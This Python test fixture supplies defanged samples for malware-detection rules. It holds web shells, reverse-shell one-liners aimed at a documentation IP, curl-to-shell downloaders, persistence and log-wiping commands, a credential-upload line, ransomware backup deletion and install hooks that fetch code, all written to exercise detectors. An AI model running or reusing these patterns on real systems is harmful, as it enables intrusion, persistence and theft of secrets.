"""Harmless samples for the rules about scripts: texts that have the shape a rule looks for and do
nothing. Addresses are of the documentation ranges (192.0.2.0/24, 198.51.100.0/24, example.org)."""
from shapes import letters, wide

IP = '192.0.2.7'
B64 = letters(120)


def jscript_hex():
    text = ''.join(f'\\x{b:02x}' for b in b'nothing at all happens here, this is just text')
    return f'var t = "{text}";\nvar h = WScript;\neval("1+1");\n'


SAMPLES = {
    # webshell_php.yar
    'php_eval_of_request': '<?php @eval($_POST["x"]); ?>',
    'php_eval_of_decoded_request': '<?php eval(base64_decode($_REQUEST["q"])); ?>',
    'php_command_of_request': '<?php echo "<pre>"; system($_GET["cmd"]); ?>',
    'php_packed_eval': f'<?php eval(gzinflate(base64_decode("{B64}"))); ?>',
    'php_request_names_function': '<?php $_GET["f"]($_POST["a"]); ?>',
    'php_regex_evaluator': '<?php preg_replace("/.*/e", $_POST["code"], ""); ?>',
    'php_in_picture': b'GIF89a\1\0\1\0\x80\0\0' + b'<?php eval ($x); ?>',
    'php_drops_upload':
        '<?php if ($_FILES) move_uploaded_file($_FILES["f"]["tmp_name"], $_POST["to"]); ?>\n'
        '<form method=post enctype="multipart/form-data"><input type=file name=f></form>\n',
    'php_built_function_name': '<?php $f = "as"."sert"; $f($_POST["x"]); ?>',
    'php_shell_console':
        '<html><title>panel</title>\nSafe_Mode: off disable_functions: none posix_getpwuid\n'
        'Back-connect | Bind port | Self remove | Console\n'
        '<?php $out = shell_exec("true"); ?>\n' + '# padding\n' * 220,
    # webshell_java.yar
    'jsp_command_of_request':
        '<%@ page import="java.io.*" %>\n<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
    'jsp_defines_class_of_request':
        '<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, 1); } } %>\n'
        '<% Cipher c = Cipher.getInstance("AES"); c.doFinal(read(request.getReader().readLine())); %>',
    'jsp_writes_file_of_request':
        '<% new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f"))'
        '.write(request.getParameter("t").getBytes()); %>',
    'java_memory_shell':
        'StandardContext ctx = find();\nctx.addFilterMapBefore(map);\n'
        'String c = req.getParameter("cmd");\nProcess p = new ProcessBuilder (c).start();\n',
    # webshell_asp.yar
    'asp_eval_of_request': '<%eval request("pass")%>',
    'aspx_eval_unsafe': '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
    'aspx_starts_process_of_request':
        '<%@ Page Language="C#" %>\n<% var p = new ProcessStartInfo(); p.FileName = "cmd.exe";\n'
        'p.Arguments = "/c " + Request["q"]; %>',
    'asp_runs_shell_of_request':
        '<% Set s = Server.CreateObject("WScript.Shell")\nr = s.exec("cmd /c " & Request("c")).StdOut %>',
    'aspx_loads_assembly_of_request':
        '<%@ WebHandler Language="C#" Class="H" %>\n'
        'byte[] b = ctx.Request.BinaryRead(n); Assembly.Load(b).CreateInstance("K");',
    # webshell_other.yar
    'perl_cgi_command':
        '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n";\nsystem(param("cmd"));\n',
    'python_cgi_command': 'import os, cgi\nform = cgi.FieldStorage()\nos.system(form.getvalue("cmd"))\n',
    'node_command_of_request':
        "const cp = require('child_process');\napp.get('/', (req, res) => cp.exec(req.query.c));\n",
    'coldfusion_command': '<cfexecute name="#form.program#" timeout="5"></cfexecute>',
    'htaccess_runs_itself': 'AddType application/x-httpd-php .jpg\n',
    # powershell.yar
    'powershell_download_and_run':
        "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\n",
    'powershell_hidden_encoded': f'powershell.exe -nop -w hidden -enc {B64}\n',
    'powershell_quiet_bypass':
        'powershell -ExecutionPolicy Bypass -w hidden -Command "Invoke-WebRequest http://example.org/a '
        '-OutFile $env:TEMP\\a.txt"\n',
    'powershell_amsi_bypass':
        "$t = 'System.Management.Automation.AmsiUtils'\n$f = 'amsiInitFailed'\n",
    'powershell_loads_assembly_from_text':
        f"[Reflection.Assembly]::Load([Convert]::FromBase64String('{B64}'))\n",
    'powershell_unpacks_stream':
        f"$m = [Convert]::FromBase64String('{B64}')\n"
        '$s = New-Object IO.Compression.GzipStream($m, 0)\nIEX (New-Object IO.StreamReader($s)).ReadToEnd()\n',
    'powershell_shellcode_runner': wide(
        '[Byte[]] $b = 0x00,0x01,0x02,0x03,0x04,0x05,0x06,0x07,0x08\n'
        '$p = VirtualAlloc 0 64\n[Marshal]::Copy($b, 0, $p, 9)\nCreateThread $p\n'),
    'powershell_disables_defender': 'Set-MpPreference -DisableRealtimeMonitoring $true\n',
    'powershell_char_soup':
        '& ("i"+"ex") (' + '+'.join(f'[char]{n}' for n in range(65, 78)) + ')\n',
    'powershell_credential_dump': 'Invoke-Mimikatz -Command "version"\n',
    # shell.yar
    'shell_pipe_from_address': f'#!/bin/sh\ncurl -fsSL http://{IP}/x | bash\n',
    'shell_fetch_chmod_run':
        f'cd /tmp; wget http://{IP}/bin; chmod 777 bin; ./bin\n',
    'shell_many_architectures': '#!/bin/sh\n' + ''.join(
        f'wget http://{IP}/b.{m}; chmod +x b.{m}\n'
        for m in ('mips', 'mpsl', 'arm5', 'arm7', 'ppc', 'sh4', 'm68k', 'x86')),
    'shell_decodes_and_runs': f'echo "{B64}" | base64 -d | sh\n',
    'shell_cron_persistence':
        f'(crontab -l; echo "*/5 * * * * curl -s http://{IP}/c | sh") | crontab -\n',
    'shell_preload_persistence':
        'cp libx.so /usr/local/lib; echo /usr/local/lib/libx.so > /etc/ld.so.preload\n'
        'chattr +i /etc/x\n',
    'shell_adds_login_key':
        f'echo "ssh-rsa AAAA{B64} nobody" >> ~/.ssh/authorized_keys\nchattr +ia ~/.ssh/x\n',
    'shell_wipes_traces':
        'unset HISTFILE\nrm -rf /var/log/wtmp\nrm -f /var/log/secure\nrm -f /var/log/lastlog\n',
    'shell_stops_protection':
        'service stop aliyun.service\nsystemctl stop aliyun\nsetenforce 0\niptables -F\n',
    'shell_self_extracting_binary':
        b'#!/bin/sh\ntail -c +99 "$0" > /tmp/.x\nchmod +x /tmp/.x\nexit\n\x7fELF\2\1\1' + bytes(40),
    # script_windows.yar
    'vbs_download_save_run':
        'Set h = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("ADODB.Stream")\n'
        's.SaveToFile "a"\nSet w = CreateObject("WScript.Shell")\n',
    'vbs_executes_char_codes':
        'Execute ' + '&'.join(f'Chr({n})' for n in range(65, 80)) + '\n',
    'jscript_downloader':
        'var h = new ActiveXObject("MSXML2.XMLHTTP"), s = new ActiveXObject("ADODB.Stream");\n'
        'var w = new ActiveXObject("WScript.Shell"); s.SaveToFile("a");\n',
    'hta_runs_command':
        '<html><hta:application showintaskbar="no">\n<script language="VBScript">\n'
        'window.resizeTo 0, 0: window.moveTo -1000, 0\n'
        'CreateObject("WScript.Shell").Run "cmd /c echo nothing", 0\n</script></html>',
    'scriptlet_remote_code':
        '<?XML version="1.0"?>\n<scriptlet>\n<registration progid="x">\n<script language="JScript">\n'
        'new ActiveXObject("WScript.Shell").Run("true");\n</script></registration></scriptlet>',
    'command_line_living_off':
        'regsvr32 /s /n /u /i:http://example.org/a.sct scrobj.dll\r\n',
    'batch_certutil_decode':
        '@echo off\r\ncertutil -decode a.txt a.exe\r\nstart a.exe\r\n',
    'batch_variable_soup':
        '@set "q=abcdefghijklmnop"\r\n' + ('%q:~1,1%%q:~2,1%%q:~3,1%%q:~4,1%%q:~5,1%%q:~6,1%\r\n' * 4),
    'html_smuggles_file':
        f'<html><body><script>var d = "UEsDB{letters(80)}";\n'
        'var b = new Blob([d]); a.download = "invoice.zip"; a.click();</script></body></html>',
    'js_unpacks_and_runs': jscript_hex(),
    'autorun_starts_program': '[autorun]\r\nopen=wscript.exe RECYCLER\\a.vbs\r\n',
    # python.yar
    'python_runs_encoded': f'import base64\nexec(base64.b64decode("{B64}"))\n',
    'python_runs_download': 'import requests\nexec(requests.get("http://example.org/a.py").text)\n',
    'python_runs_marshal': 'import marshal\nexec(marshal.loads(b"\\x63"))\n',
    'python_runs_decrypted':
        f"exec(Fernet(b'{letters(43).replace('+', '-').replace('/', '_')}=').decrypt(b'gAAAA'))\n",
    'python_starts_hidden_powershell': 'import os\nos.system("powershell -w hidden -c exit")\n',
    # revshell.yar
    'revshell_bash_tcp': f'bash -i >& /dev/tcp/{IP}/4444 0>&1\n',
    'revshell_netcat': f'nc -e /bin/sh {IP} 4444\n',
    'revshell_python':
        f'import socket,os,pty\ns=socket.socket();s.connect(("{IP}",4444))\n'
        'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\npty.spawn("/bin/sh")\n',
    'revshell_perl':
        'use Socket;connect(S,sockaddr_in($p,$a));open(STDIN,">&S");open(STDOUT,">&S");'
        'exec("/bin/sh -i");\n',
    'revshell_php':
        f'<?php $s=fsockopen("{IP}",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>',
    'revshell_ruby_lua_awk':
        f'awk \'BEGIN{{s="/inet/tcp/0/{IP}/4444";while(1){{printf ">" |& s; s |& getline c;}}}}\'\n',
    'revshell_socat': f'socat exec:"bash -li",pty,stderr,setsid tcp:{IP}:4444\n',
    'revshell_powershell':
        f"$c = New-Object System.Net.Sockets.TCPClient('{IP}',4444);$s = $c.GetStream();\n"
        '$r = (iex $data 2>&1 | Out-String)\n',
    'revshell_node':
        f'var s = new net.Socket(), sh = cp.spawn("/bin/sh", []);\ns.connect(4444, "{IP}", function () {{\n'
        's.pipe(sh.stdin); sh.stdout.pipe(s); });\n',
    'revshell_java_groovy':
        f'Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\n'
        f'Socket s = new Socket("{IP}", 4444);\np.getInputStream();\n',
    'revshell_c_source':
        'a.sin_addr.s_addr = inet_addr("192.0.2.7");\nconnect(s, (struct sockaddr *)&a, sizeof a);\n'
        'dup2(s, 0);\ndup2(s, 1);\nexecve("/bin/sh", 0, 0);\n',
    # miner.yar (texts)
    'miner_config_json':
        '{ "donate-level": 1, "pools": [ { "algo": "rx/0", "url": "pool.example.org:3333",\n'
        f'"user": "4{letters(94).replace("+", "a").replace("/", "b")}" }} ] }}\n',
    'miner_started_by_script': 'nohup ./a -o stratum+tcp://pool.example.org:3333 &\n',
    'miner_kills_rivals':
        'pkill -f xmrig\npkill -f kinsing\nkillall kdevtmpfsi\nkillall minerd\n'
        'netstat -antp | grep :3333\ncurl -s http://example.org/a\n',
    'miner_in_web_page':
        "<script>var m = new CoinHive.Anonymous('abcdefghijklmnopqrstuv'); m.start();</script>",
    # ransom.yar (texts)
    'ransom_note_text':
        'All of your files have been encrypted!\nSend 1 bitcoin to our wallet address.\n'
        'Only we have the private key and the decryptor. Use Tor Browser.\n',
    'ransom_note_leak_threat':
        'We have downloaded 90 GB of your confidential data.\nIt will be published if you do not pay '
        'within 72 hours.\nInstall Tor Browser.\n',
    'ransom_removes_backups':
        'vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no\r\n',
    'ransom_note_page':
        '<html><title>Your files are encrypted</title><body>All files are encrypted. Pay in bitcoin '
        'for the decryptor.</body></html>',
    'ransom_shell_encrypts':
        'find /home -type f -exec openssl enc -aes-256-cbc -in {} -out {}.enc \\;\nshred -u x\n'
        'echo "pay bitcoin" > /root/README_DECRYPT.txt\n',
    # install_hook.yar
    'npm_hook_fetches':
        '{ "name": "x", "scripts": { "postinstall": "curl -s http://192.0.2.7/a | sh" } }\n',
    'npm_hook_inline_code':
        '{ "name": "x", "scripts": { "preinstall": "node -e \\"require(\'https\').get(0)\\"" } }\n',
    'npm_script_sends_environment':
        "const https = require('https');\nconst d = JSON.stringify(process.env);\n"
        "https.request({ hostname: 'x.oastify.com' });\n",
    'npm_token_worm':
        "const t = read('.npmrc')._authToken; const { execSync } = require('child_process');\n"
        "// registry.npmjs.org/-/whoami, postinstall, GITHUB_TOKEN\nexecSync('npm publish --dry-run');\n",
    'python_setup_fetches':
        'from setuptools import setup\nclass I(install):\n    def run(self):\n'
        '        os.system(requests.get("http://192.0.2.7/a").text)\n'
        'setup(name="x", cmdclass={"install": I})\n',
    'python_setup_runs_encoded': 'from setuptools import setup\nexec(base64.b64decode("cGFzcw=="))\n',
    'python_path_file_runs': 'import os; exec("pass")\n',
    'gem_install_hook_fetches':
        'Gem::Specification.new do |s|\nsystem("curl -s http://192.0.2.7/a | sh")\nend\n',
    'cargo_build_script_sends':
        'fn main() {\n  println!("cargo:rerun-if-changed=x");\n'
        '  Command::new("sh").arg("-c").arg("curl http://192.0.2.7/a | sh");\n}\n',
    'package_build_downloads_hidden':
        'pkgname=x\npackage() {\n  curl -s https://example.org/a | bash\n}\n',
    'composer_hook_runs':
        '{ "name": "a/b", "scripts": { "post-install-cmd": ["curl -s http://192.0.2.7/a | sh"] } }\n',
    'editor_workspace_hook':
        '{ "tasks": [ { "command": "curl -s http://192.0.2.7/a | sh",\n'
        '  "runOptions": { "runOn": "folderOpen" } } ] }\n',
    # stealer.yar
    'script_browser_passwords':
        'db = path + "/Login Data"; key = state["encrypted_key"]  # Local State\n'
        'q = "SELECT origin_url, password_value FROM logins"; CryptUnprotectData(key)\n',
    'script_discord_tokens':
        'p = r"Local Storage\\leveldb"\nr = r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}"\n'
        'u = "https://discord.com/api/webhooks/1"\n',
    'script_collects_keys':
        'tar c ~/.ssh/id_rsa ~/.aws/credentials ~/.kube/config > k\n'
        'curl -F "f=@k" http://192.0.2.7/\n',
    'script_clipboard_wallet':
        't = pyperclip.paste()\nif re.match("0x[a-fA-F0-9]{40}", t): pyperclip.copy(t)\n',
    'phishing_form_to_bot':
        '<input name=p type="password"><script>fetch("https://api.telegram.org/bot123456789:'
        + 'a' * 35 + '/send")</script>',
    # hacktool.yar (texts)
    'hacktool_tunnel_configuration':
        '[common]\nserver_addr = 192.0.2.7\ntoken = abc\n\n[ssh]\nlocal_port = 22\n',
    'hacktool_log_cleaner':
        '#define A _PATH_UTMP\n#define B _PATH_WTMP\n#define C _PATH_LASTLOG\n'
        'if (!strncmp(u.ut_name, who, 8)) bzero(&utmp, sizeof u);\n',
    # shellcode.yar (texts)
    'shellcode_as_c_text': 'char b[] = "\\xfc\\x48\\x83\\xe4\\xf0";\n',
    # pe.yar (texts)
    'pe_as_hex_text': '4d5a90000300000004000000ffff0000b800000000000000400000000000000000\n',
    # lure_link.yar, lure_office.yar (texts)
    'url_file_to_share': '[InternetShortcut]\r\nURL=file://192.0.2.7@80/a/b.lnk\r\n',
    'desktop_entry_lure':
        '[Desktop Entry]\nType=Application\nName=report.pdf\n'
        'Exec=sh -c "curl -s http://example.org/a > /tmp/a"\n',
    'office_macro_source':
        'Sub AutoOpen()\n  Set h = CreateObject("MSXML2.XMLHTTP")\n  Shell ("calc")\n'
        '  CreateObject("WScript.Shell")\nEnd Sub\n',
    'office_dde_field':
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k" </w:instrText></w:r>',
    'office_remote_template':
        '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/attachedTemplate" Target="http://192.0.2.7/a.dotm" TargetMode="External"/>',
    'office_troubleshooter_link': 'location.href = "ms-msdt:/id PCWDiagnostic /skip force";\n',
}
